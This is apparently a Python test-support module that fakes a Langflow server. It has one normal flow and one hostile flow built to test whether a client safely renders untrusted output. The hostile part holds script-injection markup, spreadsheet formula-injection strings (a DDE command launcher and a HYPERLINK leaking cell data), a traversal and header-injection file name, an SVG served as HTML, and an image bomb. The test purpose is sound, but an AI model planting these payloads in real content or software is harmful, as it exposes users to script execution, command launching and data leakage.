"""Stand-in servers with one flow: outputs of every kind, and hostile outputs."""

from __future__ import annotations

import base64
import json
import uuid
from typing import Any

import httpx

from tests.support.hostile_markdown import PICTURE, TRACE
from tests.support.http_stand_in import StandIn, flow
from tests.support.pictures import DRAWING, as_uri, picture
from tests.support.reports import big_png

FLOW = str(uuid.UUID(int=77))

MESSAGE = f"""# Report

The area is $\\pi r^2$, and one costs $5 and two cost $9.

$$\\int_0^1 x^2\\,dx = \\frac{{1}}{{3}}$$

```python
print("hello $x$ :red[world]")
```

| city | visitors |{" of a museum |" * 8}
|---|---|{"---|" * 8}
| London | 120 |{" 12 |" * 8}

![sunset]({as_uri(picture("darkorange", "sunset"))})
![](http://pictures.example/remote.png) :red[not red]
"""
FILES: dict[str, tuple[str, bytes]] = {
    "f-txt": ("note.txt", b"a note"),
    "f-gone": ("gone.txt", b""),
    "f-pdf": ("../report.pdf", picture("navy", "A page", "PDF")),
    "f-csv": ("people.csv", b"name,age\nAda,36\nAlan,41\n=1+1,5\n"),
    "f-svg": ("drawing.svg", DRAWING.encode()),
    "f-html": ("page.html", b"<html><script>window.hit=1</script><b>bold</b></html>"),
}


def _file_id(name: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_OID, name))


def outputs() -> dict[str, tuple[str, Any]]:
    """Return the server's type and content of each output, by component id."""
    colors = ("crimson", "seagreen", "royalblue", "purple")
    rows = [
        {"day": f"2026-01-{day:02d}", "city": f"City {day % 3}", "visitors": 100 + 40 * (day % 5)}
        for day in range(1, 29)
    ]
    order = {"customer": {"name": "Ada Lovelace"}, "items": [{"price": 4.5}, {"price": 0.8}]}
    files = {
        f"File-{id[2:]}": ("file", {"id": _file_id(id), "name": name, "size": len(data)})
        for id, (name, data) in FILES.items()
    }
    return {
        "ChatOutput-a": ("message", MESSAGE),
        "Table-b": ("dataframe", {"dataframe": {"message": rows, "type": "array"}}),
        "Pictures-c": ("data", [as_uri(picture(color, color)) for color in colors]),
        "Order-d": ("data", order),
        "Text-e": ("message", MESSAGE.replace("two cost $9", "two cost $10")),
        **files,
    }


def server(kinds: dict[str, tuple[str, Any]] | None = None) -> StandIn:
    """Return the server, as a context manager; `kinds` as from `outputs`."""
    kinds = kinds or outputs()
    response = {
        "flow_id": FLOW,
        "job_id": str(uuid.UUID(int=78)),
        "object": "response",
        "status": "completed",
        "errors": [],
        "inputs": {},
        "has_errors": False,
        "outputs": {
            id: {
                "type": type,
                "status": "completed",
                "display_name": id.partition("-")[0],
                "content": content,
                "metadata": {"component_type": id.partition("-")[0]},
            }
            for id, (type, content) in kinds.items()
        },
    }
    stand_in = StandIn(
        {
            "POST /api/v2/workflows": (200, response),
            **{f"GET /api/v2/files/{_file_id(id)}": (200, data) for id, (_, data) in FILES.items()},
            f"GET /api/v2/files/{_file_id('f-gone')}": (404, {"detail": "File not found"}),
        }
    )
    stand_in.set_flows(flow(FLOW, "Every kind", [_node(id) for id in kinds]))
    return stand_in


def _node(id: str) -> dict[str, Any]:
    type = id.partition("-")[0]
    node = {
        "display_name": type,
        "template": {"_type": "Component"},
        "outputs": [{"name": "out", "types": ["Message"], "method": "m"}],
    }
    return {"id": id, "type": "genericNode", "data": {"id": id, "type": type, "node": node}}


# a server that attacks its readers: markup, formulas, file names, and an image bomb

MARKUP = (
    f"<img src={PICTURE} onerror=window.hit=1><svg onload=window.hit=1></svg>"
    f"<script>window.hit=1</script><iframe srcdoc='<script>parent.hit=1</script>'></iframe>"
    f"![a]({PICTURE}) [b](javascript:window.hit=1//{TRACE}) ![c][d] :material/delete: "
    f"www.pictures.example/{TRACE} $x$ `b` \u202egnp.\u202d\u200b"
)
FORMULAS = [
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    "a\n=1+1",
    "a;=1+1",
    '"=1+1',
    '=HYPERLINK("http://pictures.example/?"&A1)',
]
FILE_NAME = '../../../../etc/..\\x"\r\nSet-Cookie: hit=1;\u202egnp.<img src=x>.html'
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'><script>top.hit=1</script></svg>"
BOMB = "data:image/png;base64," + base64.b64encode(big_png()).decode()
FAILING_FLOW = "00000000-0000-0000-0000-00000000fa11"


def hostile_server() -> StandIn:
    """Return a Langflow with markup in all names and texts, and formulas, and an image bomb."""
    row = {MARKUP: MARKUP, **{f"{text} {number}": text for number, text in enumerate(FORMULAS)}}
    file = {"id": FLOW, "name": FILE_NAME, "size": len(SVG)}
    stand_in = server(
        {
            "ChatOutput-a": ("message", MARKUP),
            "Table-b": ("dataframe", {"dataframe": {"message": [row, row], "type": "array"}}),
            "File-c": ("file", file),
            "Picture-d": ("data", [as_uri(picture("teal", "a"))]),
            "Bomb-e": ("data", [BOMB]),
            "Bomb-f": ("message", f"![bomb]({BOMB})"),
        }
    )
    (found,) = stand_in.answers["GET /api/v1/flows/"][1]
    hostile = {**found, "name": MARKUP, "description": MARKUP}
    for node in hostile["data"]["nodes"]:
        node["data"]["node"]["display_name"] = MARKUP
    stand_in.set_flows(hostile, {**hostile, "id": FAILING_FLOW})
    completed: dict[str, Any] = stand_in.answers["POST /api/v2/workflows"][1]
    for output in completed["outputs"].values():
        output["display_name"] = MARKUP
    failed = {
        **completed,
        "status": "failed",
        "has_errors": True,
        "outputs": {},
        "errors": [{"error": MARKUP, "code": MARKUP}],
    }

    def run(request: httpx.Request) -> tuple[int, Any]:
        body = json.loads(request.content)
        answer = failed if body["flow_id"] == FAILING_FLOW else completed
        return 200, {**answer, "flow_id": body["flow_id"], "session_id": body.get("session_id")}

    stand_in.answers["POST /api/v2/workflows"] = run
    stand_in.answers[f"GET /api/v2/files/{FLOW}"] = (200, SVG, {"content-type": "text/html"})
    return stand_in
